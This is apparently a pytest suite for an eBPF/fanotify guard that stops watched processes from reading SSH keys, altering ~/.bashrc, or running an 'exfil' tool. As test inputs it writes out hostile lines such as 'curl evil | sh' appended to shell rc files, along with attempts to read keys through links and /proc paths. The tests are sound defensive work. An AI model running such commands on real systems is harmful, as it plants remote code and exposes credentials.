"""Permission gates (enforce/gates.py) against the real kernel: fanotify marks, real processes in a
real cgroup. The proof is the effect: no key byte on stdout, a config file byte-identical, a
marker file a forbidden program would have made is absent."""

from __future__ import annotations

import dataclasses
import os
import shutil
import subprocess
import sys
import time
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from ebpf_guard.enforce import cgroups, gates
from ebpf_guard.policy import load_policy, parse_policy
from ebpf_guard.policy.identities import compile_identities
from ebpf_guard.verdicts import Mode
from tests.helpers import REPO, scaled

pytestmark = pytest.mark.skipif(os.geteuid() != 0, reason="needs root")

DEFAULT = REPO / "policies" / "default.yaml"
KEY = b"-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAA-not-a-real-key\n"
CONFIG = b"# user's bashrc\nalias ll='ls -l'\n"
LD_SO = "/lib64/ld-linux-x86-64.so.2"
DENIED = "Operation not permitted"


@pytest.fixture
def home(tmp_path: Path) -> Path:
    """A fake home with a key, a bashrc and an ordinary file; never the real /root."""
    h = tmp_path / "home"
    (h / ".ssh" / "old").mkdir(parents=True)
    (h / ".ssh" / "id_ed25519").write_bytes(KEY)
    (h / ".ssh" / "old" / "id_rsa").write_bytes(KEY)
    (h / ".bashrc").write_bytes(CONFIG)
    (h / "notes.txt").write_text("notes\n")
    os.link(h / ".ssh" / "id_ed25519", h / "innocent-name")  # before planning: known by inode
    return h


def home_plan(home: Path, policy_path: Path = DEFAULT) -> gates.GatePlan:
    """The default policy's plan for `home`, keeping only marks inside the test's directories
    (the real plan also marks /etc and curl: host-wide, not this test's business)."""
    policy = load_policy(policy_path, identities=False)
    ids = compile_identities(policy, workspace=str(home / "ws"), homes=[str(home)])
    plan = gates.plan_gates(policy, workspace=str(home / "ws"), homes=[str(home)], identities=ids)
    return dataclasses.replace(plan, marks=tuple(m for m in plan.marks if m.real.startswith(str(home.parent))))


Run = Callable[..., subprocess.CompletedProcess]


@pytest.fixture
def run(tmp_cgroup: Path) -> Run:
    """run(argv or shell text, watched=True, cwd=None): a process in the watched cgroup (or not)."""

    def _run(cmd: list[str] | str, *, watched: bool = True, cwd: Path | None = None) -> subprocess.CompletedProcess:
        argv = ["sh", "-c", cmd] if isinstance(cmd, str) else cmd
        join = (lambda: cgroups.move_pid(tmp_cgroup, os.getpid())) if watched else None
        return subprocess.run(argv, capture_output=True, preexec_fn=join, cwd=cwd, timeout=scaled(20))

    return _run


@pytest.fixture
def started(tmp_cgroup: Path) -> Iterator[Callable[..., gates.FileGate]]:
    """started(plan, **kw): a running FileGate watching tmp_cgroup, closed afterwards."""
    made: list[gates.FileGate] = []

    def _start(plan: gates.GatePlan, *, judge: bool | None = False, **kw) -> gates.FileGate:
        """judge: the answer to held opens, as the guard's verdict for these readers would give it
        (the default policy's ssh-keys rule has exceptions, so its opens are held); None: the
        test answers them itself."""
        kw.setdefault("is_watched", gates.watched_by_cgroup(tmp_cgroup))
        report = kw.get("on_decision")
        if judge is not None and report is not None:

            def judged(d: gates.GateDecision) -> None:
                report(d)
                if d.held:
                    gate.answer(d.held, judge)

            kw["on_decision"] = judged
        gate = gates.FileGate(plan, **kw)
        gate.start()
        made.append(gate)
        assert gate.notes == []
        return gate

    yield _start
    for gate in made:
        gate.close()


def assert_denied(result: subprocess.CompletedProcess, secret: bytes = KEY) -> None:
    assert result.returncode != 0, result
    assert DENIED in result.stderr.decode(), result.stderr
    assert secret not in result.stdout and secret[:16] not in result.stdout


# ---------------------------------------------------------------- planning


def test_plan_of_the_default_policy(home: Path) -> None:
    policy = load_policy(DEFAULT, identities=False)
    ids = compile_identities(policy, workspace=str(home / "ws"), homes=[str(home)])
    plan = gates.plan_gates(policy, workspace=str(home / "ws"), homes=[str(home)], identities=ids)
    by_place = {(m.real, m.target): m for m in plan.marks}
    kinds = {r.name: r.kind for r in plan.rules}
    assert kinds["ssh-keys"] is gates.GateKind.READ
    assert kinds["agent-config-write"] is kinds["deny-write"] is gates.GateKind.WRITE
    assert kinds["exfil-tool"] is gates.GateKind.EXEC
    assert "recursive-rm" not in kinds  # judged on its arguments: rm itself stays runnable
    assert "ssh-keys" in by_place[(str(home / ".ssh"), "dir")].rules
    assert "ssh-keys" in by_place[(str(home / ".ssh" / "old"), "dir")].rules  # subdirectories too
    assert by_place[(str(home / ".ssh" / "id_ed25519"), "file")].rules[0] == "ssh-keys"
    assert by_place[(str(home / ".bashrc"), "file")].rules == ("agent-config-write",)
    if not os.path.lexists("/etc/ld.so.preload"):
        assert ("/etc", "dir") in by_place  # the file is absent: its directory is marked
    assert (str(home / "notes.txt"), "ignore") in by_place  # home is marked; notes.txt is not gated
    if ids.tools.get("curl"):
        curl = next(m for m in plan.marks if m.target == "binary" and "curl" in m.real)
        assert curl.mask == gates.BINARY_MASK and curl.rules == ("exfil-tool",)
    text = "\n".join(plan.describe())
    assert any(f"{verb} {home}/.ssh/* (children)" in text for verb in
               ("deny read", "deny read/write", "hold read for the verdict", "deny write, hold read for the verdict"))
    assert "write-outside-workspace: names no path" in text
    assert "'*id_rsa*' names no directory" in text


def test_audit_mode_plans_nothing(home: Path) -> None:
    policy = dataclasses.replace(load_policy(DEFAULT, identities=False), mode=Mode.AUDIT)
    plan = gates.plan_gates(policy, workspace=None, homes=[str(home)])
    assert plan.marks == () and plan.describe() == ["gate not set: audit mode: nothing is denied"]


# ---------------------------------------------------------------- read gate


def test_watched_process_reads_no_byte_of_a_key(home: Path, run: Run, started, tmp_path: Path) -> None:
    denials: list[gates.GateDecision] = []
    gate = started(home_plan(home), on_decision=denials.append)
    key = home / ".ssh" / "id_ed25519"
    (tmp_path / "link").symlink_to(key)
    assert_denied(run(["cat", str(key)]))
    assert_denied(run(["cat", str(tmp_path / "link")]))  # symlink
    assert_denied(run(["cat", str(home / "innocent-name")]))  # hard link outside ~/.ssh
    assert_denied(run(["cat", f"/proc/self/root{key}"]))
    assert_denied(run(["cat", "id_ed25519"], cwd=home / ".ssh"))  # relative, cwd inside
    assert_denied(run(["cat", str(home / ".ssh" / "old" / "id_rsa")]))  # subdirectory
    assert_denied(run([sys.executable, "-c", f"import sys; sys.stdout.buffer.write(open({str(key)!r}, 'rb').read())"]))
    in_thread = ("import sys, threading\nread = []\n"
                 f"t = threading.Thread(target=lambda: read.append(open({str(key)!r}, 'rb').read()))\n"
                 "t.start(); t.join(); sys.stdout.buffer.write(b''.join(read)); sys.exit(0 if read else 1)")
    assert_denied(run([sys.executable, "-c", in_thread]))  # a non-leader thread: judged by its tid
    ok = run(["cat", str(home / "notes.txt")])  # the agent reads what is not protected
    assert ok.returncode == 0 and ok.stdout == b"notes\n"
    gate.close()  # drains the reporter: every denial is handed over
    assert gate.stats.denied + gate.stats.held >= 8 and gate.stats.errors == 0  # held: then refused
    assert {d.rule for d in denials} == {"ssh-keys"} and all(not d.allowed for d in denials)
    assert any(d.path == str(key) and d.mask == "open" for d in denials)


def test_unwatched_process_reads_the_key_and_the_wait_is_measured(home: Path, run: Run, started) -> None:
    gate = started(home_plan(home))
    key = home / ".ssh" / "id_ed25519"
    assert key.read_bytes() == KEY  # this test process: not in the watched cgroup
    out = run(["cat", str(key)], watched=False)
    assert out.returncode == 0 and out.stdout == KEY
    gate.close()  # the thread counts after it answers: read the stats once it is done
    assert gate.stats.allowed_unwatched >= 2 and gate.stats.denied == 0
    assert gate.stats.unwatched_waits == gate.stats.allowed_unwatched
    assert 0 < gate.stats.unwatched_wait_max_us <= gate.stats.unwatched_wait_total_us


def test_file_created_later_in_a_marked_directory_is_denied(home: Path, run: Run, started) -> None:
    started(home_plan(home))
    new = home / ".ssh" / "id_new"
    new.write_bytes(KEY)  # written by root (unwatched) after the gate started
    assert_denied(run(["cat", str(new)]))
    later = home / ".ssh" / "old" / "backup"
    later.write_bytes(KEY)
    assert_denied(run(["cat", str(later)]))


def test_gate_off_lets_the_key_through(home: Path, run: Run, started) -> None:
    """The control: the same reads with an empty plan succeed, so the tests above test the gate."""
    started(gates.GatePlan())
    out = run(["cat", str(home / ".ssh" / "id_ed25519")])
    assert out.returncode == 0 and out.stdout == KEY


def test_is_watched_raising_denies(home: Path, run: Run, started) -> None:
    def broken(tid: int) -> bool:
        raise RuntimeError("cannot tell")

    gate = started(home_plan(home), is_watched=broken)
    assert_denied(run(["cat", str(home / ".ssh" / "id_ed25519")], watched=False))
    gate.close()
    assert gate.stats.errors >= 1 and gate.stats.denied >= 1


def test_watched_by_cgroup(tmp_cgroup: Path) -> None:
    is_watched = gates.watched_by_cgroup(tmp_cgroup)
    assert not is_watched(os.getpid())
    inner = cgroups.create_cgroup(tmp_cgroup, "inner")
    child = subprocess.Popen(["sleep", "30"], preexec_fn=lambda: cgroups.move_pid(inner, os.getpid()))
    try:
        assert is_watched(child.pid)  # a descendant cgroup is watched too
        assert not gates.watched_by_cgroup(cgroups.find_v2_mount() / "elsewhere")(child.pid)
    finally:
        child.kill()
        child.wait()
    assert is_watched(child.pid)  # gone: cannot read anything, so denying is harmless
    with pytest.raises(gates.GateError, match="not in the cgroup v2 filesystem"):
        gates.watched_by_cgroup(Path("/var/tmp"))


# ---------------------------------------------------------------- write gate


def test_write_gate_denies_writes_and_allows_reads(home: Path, run: Run, started) -> None:
    rc = home / ".bashrc"
    seen: list[int | None] = []

    def proc_flags(tid: int) -> int | None:  # the default, recorded
        seen.append(gates.proc_open_flags(tid))
        return seen[-1]

    started(home_plan(home), open_flags=proc_flags)
    assert_denied(run(f"echo 'curl evil | sh' >> {rc}"), secret=b"evil")
    assert_denied(run(f"echo x > {rc}"), secret=b"x\n")  # O_TRUNC
    assert_denied(run([sys.executable, "-c", f"open({str(rc)!r}, 'r+').write('evil')"]), secret=b"evil")
    assert rc.read_bytes() == CONFIG
    read = run(["cat", str(rc)])
    assert read.returncode == 0 and read.stdout == CONFIG
    # ~/.zshrc does not exist: home itself is marked and the name is judged on each open.
    zshrc = home / ".zshrc"
    assert_denied(run(f"echo 'curl evil | sh' > {zshrc}"), secret=b"evil")
    assert not zshrc.exists() or zshrc.read_bytes() == b""  # O_CREAT makes the inode before the check
    assert run(f"echo ok > {home / 'todo.txt'}").returncode == 0  # other names in home: allowed
    # /proc/TID/syscall showed the real flags of the waiting open: sh's `>>`, and cat's read.
    assert os.O_WRONLY | os.O_CREAT | os.O_APPEND in [f & (os.O_ACCMODE | os.O_CREAT | os.O_APPEND) for f in seen if f]
    assert any(f is not None and f & os.O_ACCMODE == os.O_RDONLY for f in seen)
    assert None not in seen


def test_write_gate_reads_flags_of_openers_not_yet_asleep(home: Path, run: Run, started) -> None:
    # The event can reach the gate before its opener sleeps in the kernel's wait, while
    # /proc/TID/syscall still says "running": read as "unknown", that refused reads at random
    # (git's read of ~/.gitconfig, ps's of /etc/passwd, in the corpus).
    started(home_plan(home))
    code = (f"import sys\nok = 0\nfor _ in range(400):\n"
            f"    try:\n        ok += open({str(home / '.bashrc')!r}, 'rb').read() == {CONFIG!r}\n"
            f"    except OSError:\n        pass\nprint(ok)")
    r = run([sys.executable, "-c", code])
    assert r.returncode == 0 and r.stdout.strip() == b"400", r.stdout


def test_write_gate_fails_closed_when_flags_are_unknown(home: Path, run: Run, started) -> None:
    started(home_plan(home), open_flags=lambda tid: None)
    assert_denied(run(["cat", str(home / ".bashrc")]), secret=CONFIG)
    assert run(["cat", str(home / "notes.txt")]).returncode == 0


# ---------------------------------------------------------------- exec gate


@pytest.fixture
def tool(tmp_path: Path) -> Path:
    """A shell copied to a private directory: a 'tool' that can prove it ran (it makes a file)."""
    d = tmp_path / "bin"
    d.mkdir()
    t = d / "exfil"
    shutil.copy2("/bin/sh", t)
    return t


def tool_plan(tool: Path, verdict: str = "KILL") -> gates.GatePlan:
    policy = parse_policy(f"version: 1\nrules:\n  - name: exfil-tool\n    exec: {{path: {tool}}}\n"
                          f"    verdict: {verdict}\n")
    ids = compile_identities(policy, homes=[])
    return gates.plan_gates(policy, workspace=None, homes=[], identities=ids)


def test_exec_gate(tool: Path, run: Run, started, tmp_path: Path) -> None:
    plan = tool_plan(tool)
    assert [(m.real, m.target) for m in plan.marks] == [(str(tool), "binary")]
    started(plan)
    marker = tmp_path / "ran"
    # Through sh: a direct exec failure would raise in subprocess rather than show as EPERM.
    assert_denied(run(f"{tool} -c 'touch {marker}; echo RAN'"), secret=b"RAN")
    os.link(tool, tmp_path / "renamed")
    assert_denied(run(f"{tmp_path / 'renamed'} -c 'touch {marker}; echo RAN'"), secret=b"RAN")  # hard link
    if os.path.exists(LD_SO):
        assert_denied(run([LD_SO, str(tool), "-c", f"touch {marker}; echo RAN"]), secret=b"RAN")
    copy = tmp_path / "copy"
    assert_denied(run(["cp", str(tool), str(copy)]), secret=b"RAN")
    assert not marker.exists()
    assert not copy.exists() or copy.stat().st_size == 0
    assert run(f"{tool} -c 'touch {marker}'", watched=False).returncode == 0
    assert marker.exists()


def test_a_halt_or_ask_tool_is_exec_held_not_refused_but_never_copied(tool: Path, run: Run, started,
                                                                      tmp_path: Path) -> None:
    """HALT and ASK exec rules: the exec passes the gate into the sensor's exec hold (stopped
    before its first instruction until the guard decides, so an approved ASK still runs it);
    reading the binary (a copy, ld.so) is refused all the same."""
    started(tool_plan(tool, "HALT"))
    marker = tmp_path / "ran"
    assert run(f"{tool} -c 'touch {marker}'").returncode == 0  # no exec hold in this test: it runs
    copy = tmp_path / "copy"
    assert_denied(run(["cp", str(tool), str(copy)]), secret=b"RAN")
    assert not copy.exists() or copy.stat().st_size == 0
    if os.path.exists(LD_SO):
        assert_denied(run([LD_SO, str(tool), "-c", "echo RAN"]), secret=b"RAN")


SPAWNS_GATED_TOOL = """
import subprocess, sys
from ebpf_guard.enforce import gates
from ebpf_guard.policy.identities import compile_identities
from ebpf_guard.policy import parse_policy
tool, marker = sys.argv[1:]
policy = parse_policy(f"version: 1\\nrules:\\n  - name: t\\n    exec: {{path: {tool}}}\\n    verdict: KILL\\n")
plan = gates.plan_gates(policy, workspace=None, homes=[], identities=compile_identities(policy, homes=[]))
with gates.FileGate(plan, is_watched=lambda tid: False):
    subprocess.run([tool, "-c", f"touch {marker}"], check=True)  # subprocess's defaults: vfork
"""


def test_gate_host_may_spawn_a_gated_tool(tool: Path, tmp_path: Path) -> None:
    """The process running the gate spawns the gated tool itself (unwatched: allowed). On Python
    < 3.12 subprocess's vfork holds the GIL until that exec, which waits for the gate's thread,
    which waits for the GIL: a deadlock unless the gate turns vfork off. In a child process, so
    a deadlock is a timeout here rather than a hung suite."""
    marker = tmp_path / "spawned"
    try:
        subprocess.run([sys.executable, "-c", SPAWNS_GATED_TOOL, str(tool), str(marker)], cwd=REPO, check=True,
                       timeout=scaled(30))
    except subprocess.TimeoutExpired:
        pytest.fail("the gate's host deadlocked spawning a gated program")
    assert marker.exists()


# ---------------------------------------------------------------- close


def test_close_removes_every_mark(home: Path, run: Run, started) -> None:
    gate = started(home_plan(home))
    key = home / ".ssh" / "id_ed25519"
    assert_denied(run(["cat", str(key)]))
    gate.close()
    assert not gate.running
    out = run(["cat", str(key)])
    assert out.returncode == 0 and out.stdout == KEY
    gate.close()  # idempotent


# ---------------------------------------------------------------- ASK: the open waits for an answer

ASKED = b"bytes a human must approve first\n"
READ_OR_EPERM = ("import sys\ntry:\n    data = open(sys.argv[1], 'rb').read()\nexcept PermissionError:\n"
                 "    print('EPERM', flush=True)\nelse:\n    sys.stdout.buffer.write(data)\n")


@pytest.fixture
def asked(tmp_path: Path) -> Path:
    f = tmp_path / "asked" / "file"
    f.parent.mkdir()
    f.write_bytes(ASKED)
    return f


def ask_plan(path: Path, verdict: str = "ASK", mode: str = "enforce") -> gates.GatePlan:
    policy = parse_policy(f"version: 1\nmode: {mode}\nrules:\n  - name: ask-file\n    open: {{path: [{path}]}}\n"
                          f"    verdict: {verdict}\n")
    return gates.plan_gates(policy, workspace=None, homes=[])


class Holds:
    """The gate's reports, collected on its reporting thread; `next()` waits for the next one."""

    def __init__(self) -> None:
        self.seen: list[gates.GateDecision] = []

    def __call__(self, d: gates.GateDecision) -> None:
        self.seen.append(d)

    def next(self, count: int = 1) -> list[gates.GateDecision]:
        deadline = time.monotonic() + scaled(10)
        while len(self.seen) < count and time.monotonic() < deadline:
            time.sleep(0.005)
        assert len(self.seen) >= count, self.seen
        return self.seen[:count]


def reader(spawn, cg: Path | None, path: Path) -> subprocess.Popen:
    return spawn(cg, [sys.executable, "-c", READ_OR_EPERM, str(path)], stdout=subprocess.PIPE,
                 stderr=subprocess.PIPE)


def output(p: subprocess.Popen) -> bytes:
    out, _ = p.communicate(timeout=scaled(10))
    return out


def test_plan_marks_ask_open_rules_as_holding(asked: Path) -> None:
    assert [r.holds for r in ask_plan(asked).rules] == [True]
    assert [r.holds for r in ask_plan(asked, "KILL").rules] == [False]
    assert [r.holds for r in ask_plan(asked, "HALT").rules] == [False]
    assert [r.holds for r in ask_plan(asked, "HALT", mode="confirm").rules] == [True]  # the engine asks
    conditional = parse_policy(f"version: 1\nrules:\n  - name: only-cat\n"
                               f"    open: {{path: [{asked}], exe: /usr/bin/cat}}\n    verdict: KILL\n")
    assert [r.holds for r in gates.plan_gates(conditional, workspace=None, homes=[]).rules] == [True]
    assert f"hold read for the verdict {asked}" in "\n".join(ask_plan(asked).describe())


def test_ask_open_waits_for_the_answer(asked: Path, tmp_cgroup: Path, started, spawn) -> None:
    """Held: the watched reader waits in open(2) and has read nothing; an unwatched reader is let
    through meanwhile; a second watched reader is held too; allow gives the first the bytes,
    deny gives the second EPERM."""
    holds = Holds()
    gate = started(ask_plan(asked), on_decision=holds, judge=None)
    first = reader(spawn, tmp_cgroup, asked)
    (d1,) = holds.next()
    assert d1.held and d1.rule == "ask-file" and d1.path == str(asked) and d1.pid == first.pid
    assert first.poll() is None and gate.held == 1
    host = subprocess.run(["cat", str(asked)], capture_output=True, timeout=scaled(10))  # unwatched: at once
    assert host.returncode == 0 and host.stdout == ASKED and first.poll() is None
    second = reader(spawn, tmp_cgroup, asked)
    _, d2 = holds.next(2)
    assert d2.held and d2.held != d1.held and d2.pid == second.pid and gate.held == 2
    assert first.poll() is None and second.poll() is None
    assert gate.answer(d1.held, True) and output(first) == ASKED
    assert gate.answer(d2.held, False) and output(second) == b"EPERM\n"
    assert not gate.answer(d1.held, False)  # answered once
    gate.close()
    assert gate.stats.held == 2 and gate.stats.denied == 0 and gate.stats.errors == 0


@pytest.mark.parametrize("allow_first", [True, False], ids=["allow-then-thaw", "thaw-then-allow"])
def test_held_open_and_the_freezer(asked: Path, tmp_cgroup: Path, started, spawn, allow_first: bool) -> None:
    """The guard freezes the agent while it asks. The held opener sleeps in the kernel, where the
    v2 freezer cannot stop it (the cgroup never reports frozen while it is held); allowing then
    thawing, or thawing then allowing, both end with the reader reading the bytes."""
    holds = Holds()
    gate = started(ask_plan(asked), on_decision=holds, judge=None)
    p = reader(spawn, tmp_cgroup, asked)
    (d,) = holds.next()
    cgroups.freeze(tmp_cgroup)
    try:
        assert not cgroups.wait_frozen(tmp_cgroup, 0.3)
        if allow_first:
            assert gate.answer(d.held, True)
            assert cgroups.wait_frozen(tmp_cgroup, scaled(5))  # answered: it freezes on its way out
            assert p.poll() is None
    finally:
        cgroups.thaw(tmp_cgroup)
    if not allow_first:
        assert p.poll() is None
        assert gate.answer(d.held, True)
    assert output(p) == ASKED


def test_held_opens_are_bounded(asked: Path, tmp_cgroup: Path, started, spawn) -> None:
    holds = Holds()
    started(ask_plan(asked), on_decision=holds, judge=None, max_held=1)
    first = reader(spawn, tmp_cgroup, asked)
    holds.next()
    second = reader(spawn, tmp_cgroup, asked)
    assert output(second) == b"EPERM\n"  # over the bound: refused at once
    over = holds.next(2)[1]
    assert not over.held and "1 opens are held already" in over.note
    first.kill()


def test_a_dead_opener_is_dropped(asked: Path, tmp_cgroup: Path, started, spawn) -> None:
    holds = Holds()
    gate = started(ask_plan(asked), on_decision=holds, judge=None)
    p = reader(spawn, tmp_cgroup, asked)
    (d,) = holds.next()
    p.kill()
    p.wait(scaled(5))
    deadline = time.monotonic() + scaled(5)
    while gate.held and time.monotonic() < deadline:
        time.sleep(0.01)
    assert gate.held == 0 and gate.stats.held_dropped == 1
    assert not gate.answer(d.held, True)


@pytest.mark.parametrize("default_allow", [False, True], ids=["default-deny", "default-allow"])
def test_close_answers_held_opens_with_the_ask_default(asked: Path, tmp_cgroup: Path, started, spawn,
                                                       default_allow: bool) -> None:
    holds = Holds()
    gate = started(dataclasses.replace(ask_plan(asked), ask_default_allow=default_allow), on_decision=holds, judge=None)
    p = reader(spawn, tmp_cgroup, asked)
    holds.next()
    gate.close()
    assert output(p) == (ASKED if default_allow else b"EPERM\n")


def test_ask_without_anyone_to_answer_is_refused_at_once(asked: Path, tmp_cgroup: Path, started, spawn) -> None:
    gate = started(ask_plan(asked))  # no on_decision: nobody would learn of a held open
    assert output(reader(spawn, tmp_cgroup, asked)) == b"EPERM\n"
    assert gate.held == 0
